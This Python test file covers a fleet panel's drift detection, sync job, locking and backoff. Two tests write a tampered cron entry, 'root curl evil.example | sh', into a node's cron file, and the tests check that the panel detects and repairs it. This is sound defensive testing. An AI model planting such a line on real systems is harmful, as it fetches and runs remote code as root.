"""The sync job and drift detection (docs/distributed-requests.md, "Synchronization", "Drift") on loopback agents."""

from __future__ import annotations

import json

from tests.system.conftest import cron_file, firewall_file

RULE = {"action": "drop", "protocol": "udp", "ports": "5000-5010", "source": "203.0.113.0/24", "comment": ""}
CRON = {"schedule": "30 2 * * *", "user": "root", "command": "/usr/local/bin/backup", "comment": "nightly"}


def _tamper_list_state(cluster, node: str, name: str, version: int, content_hash: str):
    """Change what the agent records for a list, as a hand edit or a restored backup would."""
    path = cluster.root(node).parent / "state" / "lists.json"
    state = json.loads(path.read_text())
    state[name] = {"version": version, "hash": content_hash}
    path.write_text(json.dumps(state))


def test_drift_on_cron_and_firewall_is_detected_and_repaired(cluster):
    """Files and list state changed behind the panel's back: the collector registers desyncs,
    the sync job puts the master's lists back, the node returns to ready."""
    cluster.add("n1")
    cluster.add("n2")
    assert cluster.change("firewall", body=RULE)["status"] == "succeeded"
    assert cluster.change("scheduler", body=CRON)["status"] == "succeeded"
    cluster.collect()
    assert cluster.desyncs() == set()

    good_cron, good_nft = cron_file(cluster, "n1"), firewall_file(cluster, "n1")
    (cluster.root("n1") / "etc/cron.d/hostfleet").write_text("* * * * * root curl evil.example | sh\n")
    _tamper_list_state(cluster, "n1", "scheduler", 1, "0" * 64)
    (cluster.root("n1") / "etc/hostfleet/firewall.nft").write_text("table inet hostfleet\n")
    _tamper_list_state(cluster, "n1", "firewall", 7, cluster.master("firewall")["hash"])

    cluster.collect()
    assert cluster.desyncs() == {("n1", "scheduler"), ("n1", "firewall")}
    assert cluster.node_state("n1") == "syncing" and cluster.node_state("n2") == "ready"
    status, registry = cluster.api("GET", "/sync")
    assert all("drift: the node reports" in r["last_error"] for r in registry["items"])

    cluster.sync()
    assert cluster.desyncs() == set()
    assert cron_file(cluster, "n1") == good_cron and firewall_file(cluster, "n1") == good_nft
    assert cluster.converged("firewall", ["n1", "n2"]) and cluster.converged("scheduler", ["n1", "n2"])
    assert cluster.node_state("n1") == "ready"
    cluster.collect()
    assert cluster.desyncs() == set(), "no drift once repaired"


def test_drift_is_not_registered_while_a_request_holds_the_list(cluster, app):
    """A list whose lock is held (request in flight) is not compared: its answer may predate the commit."""
    from app.queues import redis_connection
    from app.services.distributed import lock_key

    cluster.add("n1")
    cluster.change("firewall", body=RULE)
    _tamper_list_state(cluster, "n1", "firewall", 9, "1" * 64)
    with app.app_context():
        redis_connection().set(lock_key("firewall"), "someone", px=5000)
    cluster.collect()
    assert cluster.desyncs() == set()
    with app.app_context():
        redis_connection().delete(lock_key("firewall"))
    cluster.collect()
    assert cluster.desyncs() == {("n1", "firewall")}


def test_a_change_committed_while_the_node_was_asked_is_not_taken_for_drift(cluster, app, monkeypatch):
    """A request commits the master's next version after the poll went out and releases its lock before
    the answer is compared: the answer predates the commit, so it is not drift (it put nodes in
    `syncing`, refusing user data, under steady changes). The next poll compares again."""
    from sqlalchemy import create_engine, text

    from agent.client import AgentClient
    from app.extensions import db

    cluster.add("n1")
    cluster.change("firewall", body=RULE)
    with app.app_context():
        url = db.engine.url
    real, moved = AgentClient.stats, []

    def answer_then_commit(self, *args, **kwargs):
        answer = real(self, *args, **kwargs)
        if not moved:
            moved.append(True)
            engine = create_engine(url)
            with engine.begin() as conn:
                conn.execute(text("UPDATE system_lists SET version = version + 1, hash = :h WHERE name = 'firewall'"),
                             {"h": "2" * 64})
            engine.dispose()
        return answer

    monkeypatch.setattr(AgentClient, "stats", answer_then_commit)
    cluster.collect()
    assert moved and cluster.desyncs() == set()
    cluster.collect()
    assert cluster.desyncs() == {("n1", "firewall")}, "the node holds the older version: drift now"


def test_sync_skips_a_list_whose_lock_is_held_without_counting_an_attempt(cluster, app):
    """The sync job never pushes under a distributed request; the desync waits, attempts stay 0."""
    from app.queues import redis_connection
    from app.services.distributed import lock_key

    cluster.add("n1")
    cluster.add("n2")
    cluster.stop("n2")
    cluster.change("firewall", body=RULE)
    cluster.start("n2")
    with app.app_context():
        redis_connection().set(lock_key("firewall"), "someone", px=5000)
    assert cluster.sync()[cluster.ids["n2"]] == {"firewall": "busy"}
    status, registry = cluster.api("GET", "/sync")
    assert registry["items"][0]["attempts"] == 0
    with app.app_context():
        redis_connection().delete(lock_key("firewall"))
    assert cluster.sync()[cluster.ids["n2"]] == {"firewall": "ok"}
    assert cluster.converged("firewall", ["n1", "n2"])


def test_node_back_from_unavailable_converges_through_the_periodic_tick(cluster, app):
    """The real periodic path (tick → collect_stats, sync) heals a node with nobody clicking."""
    from redis import Redis

    from app.jobs.periodic import tick
    from app.queues import get_queue

    cluster.set_policy(missed_polls=1)
    cluster.add("n1")
    cluster.add("n2")
    cluster.stop("n2")
    cluster.change("scheduler", body=CRON)
    cluster.collect()
    assert cluster.node_state("n2") == "unavailable"
    assert cluster.sync() == {}, "an unavailable node is not tried (no attempt counted)"
    cluster.start("n2")
    redis = Redis.from_url(app.config["REDIS_URL"])
    for _ in range(2):
        redis.delete("hostfleet:periodic:collect_stats", "hostfleet:periodic:sync")
        with app.app_context():
            get_queue("periodic").enqueue(tick)
        cluster.run_jobs()
    assert cluster.desyncs() == set()
    assert "/usr/local/bin/backup" in cron_file(cluster, "n2")
    assert cluster.node_state("n2") == "ready"


def test_backoff_grows_and_retry_now_makes_it_due(cluster, app):
    """Failures double the delay; a desync not due is left alone; retry-now makes it due."""
    from app.extensions import db
    from app.models import Desync
    from app.services.sync import backoff, retry_now

    assert [backoff(n).total_seconds() for n in (1, 2, 3, 10)] == [5, 10, 20, 300]
    cluster.add("n1")
    cluster.add("n2")
    cluster.add_os_user("n1", "backup")
    assert cluster.change("scheduler", body={**CRON, "user": "backup"})["status"] == "partial"
    n2 = cluster.ids["n2"]
    assert "no account 'backup'" in cluster.sync()[n2]["scheduler"]
    assert cluster.sync() == {}, "backed off: not due yet"
    with app.app_context():
        desync = db.session.scalar(db.select(Desync).where(Desync.node_id == n2))
        assert desync.attempts == 1
        retry_now(desync)
        db.session.commit()
    cluster.sync()
    with app.app_context():
        desync = db.session.scalar(db.select(Desync).where(Desync.node_id == n2))
        assert desync.attempts == 2 and "backup" in desync.last_error


def test_drift_in_the_files_alone_is_detected_and_repaired(cluster):
    """Only the files are edited (the agent's own record untouched): the agent reports the drift."""
    cluster.add("n1")
    assert cluster.change("firewall", body=RULE)["status"] == "succeeded"
    assert cluster.change("scheduler", body=CRON)["status"] == "succeeded"
    good_cron, good_nft = cron_file(cluster, "n1"), firewall_file(cluster, "n1")
    (cluster.root("n1") / "etc/cron.d/hostfleet").write_text("* * * * * root curl evil.example | sh\n")
    (cluster.root("n1") / "etc/hostfleet/firewall.nft").unlink()
    cluster.collect()
    assert cluster.desyncs() == {("n1", "scheduler"), ("n1", "firewall")}
    cluster.sync()
    assert cluster.desyncs() == set()
    assert cron_file(cluster, "n1") == good_cron and firewall_file(cluster, "n1") == good_nft
    cluster.collect()
    assert cluster.desyncs() == set(), "no drift once repaired"


def test_a_node_answering_odd_json_to_a_synchronizer_does_not_stop_the_round(cluster, app, hostile_agent):
    """A compromised node answers the templates synchronizer's GET /v1/software with a JSON string: its
    desync keeps the error and backs off, and the honest node's desync in the same round is cleared."""
    from app.extensions import db
    from app.models import Node
    from app.services.desyncs import register_desync

    good = cluster.add("n1")
    hostile_agent.json("/v1/software", "x")
    evil = hostile_agent.add_node(app, "evil", state="syncing")
    with app.app_context():
        for node_id in (evil, good):
            register_desync(db.session.get(Node, node_id), "templates", "test")
        db.session.commit()
    summary = cluster.sync()
    assert summary[good]["templates"] == "ok"
    assert "the templates synchronizer failed on this node's answer" in summary[evil]["templates"]
    assert cluster.desyncs() == {("evil", "templates")}
